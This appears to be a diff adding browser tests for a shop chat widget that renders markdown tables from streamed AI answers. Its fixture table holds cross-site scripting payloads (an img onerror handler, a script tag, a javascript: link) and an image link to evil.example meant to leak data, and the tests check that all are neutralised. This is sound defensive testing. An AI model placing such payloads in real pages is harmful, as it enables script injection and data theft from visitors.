@@ -114,3 +114,84 @@ t.test(
     t.equal(htmls[2], htmls[0])
   }
 )
+
+/** Colours and prices, with cells as strangers write them, and one that is a sign. */
+const TABLE = `What it costs:
+| Colour | Price | From |
+|:------:|------:|------|
+| **Red** | 12 \\| 14 | [shop](https://shop.example/a) [1] |
+| <img src=x onerror=window.hit=1> | ![](https://evil.example/?leak=1) | [x](javascript:window.hit=1) |
+| <script>window.hit = 1</script> |
+
+After it.`
+
+// Was wrong: a table was shown as its bars and dashes.
+t.test(
+  'a table is drawn in whatever pieces it comes, and its cells are as harmless as any text',
+  { skip: withoutChromium },
+  async (t) => {
+    const model = await slowModel(t)
+    const { origin, host } = await shop(t, { env: { AGENTHALL_MODEL_URL: model.url } })
+    const { widget, page, hosts, faults } = await visitorAt(t, origin)
+    const loaded: string[] = []
+    page.on('request', (request) => { if (/\/table-/.test(request.url())) loaded.push(request.url()) })
+    await widget.open()
+    const say = async (text: string, size: number) => {
+      const before = await widget.answers.count()
+      await widget.ask(QUESTION)
+      const asked = await model.next()
+      for (let at = 0; at < text.length; at += size) await asked.say(text.slice(at, at + size))
+      asked.end()
+      const answer = widget.panel.locator('li.agent').nth(before)
+      await answer.locator('.judge').waitFor()
+      return answer.locator('.body')
+    }
+    await say('Either a | b\nor c', 100)
+    t.equal(loaded.length, 0, 'what draws tables is loaded where there is one')
+    const htmls: string[] = []
+    for (const size of [1000, 1]) {
+      const body = await say(TABLE, size)
+      await body.locator('table').waitFor()
+      t.strictSame(await body.locator('th').allInnerTexts(), ['Colour', 'Price', 'From'])
+      t.strictSame(await body.locator('td').evaluateAll((all) => all.map((one) => one.textContent)), [
+        // What a model writes as markup the server has taken out already; what people write is in the inbox's tests.
+        'Red', '12 | 14', 'shop 1', '', '', 'x', 'window.hit = 1'
+      ])
+      t.equal(await body.locator('strong').innerText(), 'Red')
+      t.equal(await body.locator('p').first().innerText(), 'What it costs:')
+      t.equal(await body.locator('p').last().innerText(), 'After it.')
+      htmls.push(await body.locator('.table').evaluate((table) => table.outerHTML))
+    }
+    t.equal(htmls[1], htmls[0])
+    const table = widget.panel.locator('.table').first()
+    t.strictSame(
+      await table.locator('td').evaluateAll((all) => all.slice(0, 3).map((cell) => getComputedStyle(cell).textAlign)),
+      ['center', 'end', 'start'],
+      'to the side that the dashes say'
+    )
+    const cells = '|a'.repeat(600)
+    const wide = await say(`${cells}\n${'|-'.repeat(600)}\n${'x\n'.repeat(600)}`, 5000)
+    await wide.locator('table').waitFor()
+    t.equal(await wide.locator('td').count(), 600, 'a row has the cells that are written, not those of the widest')
+    t.equal(loaded.length, 1)
+    t.equal(await page.evaluate('window.hit'), undefined)
+    t.equal(await widget.panel.locator('script, img, a[href^="javascript"]').count(), 0)
+    t.strictSame([...hosts].sort(), [new URL(host).host, new URL(origin).host].sort(), 'no other host was asked')
+    t.strictSame(faults, [])
+  }
+)
+
+t.test('where what draws tables cannot be loaded their lines stay to be read', { skip: withoutChromium }, async (t) => {
+  const model = await slowModel(t)
+  const { origin } = await shop(t, { env: { AGENTHALL_MODEL_URL: model.url } })
+  const { widget, page } = await visitorAt(t, origin)
+  await page.route('**/table-*', (route) => route.abort())
+  await widget.open()
+  await widget.ask(QUESTION)
+  const asked = await model.next()
+  await asked.say(TABLE)
+  asked.end()
+  await widget.panel.locator('.judge').waitFor()
+  t.match(await widget.answers.first().innerText(), /Colour \| Price \| From[^]*After it/)
+  t.equal(await widget.panel.locator('table').count(), 0)
+})
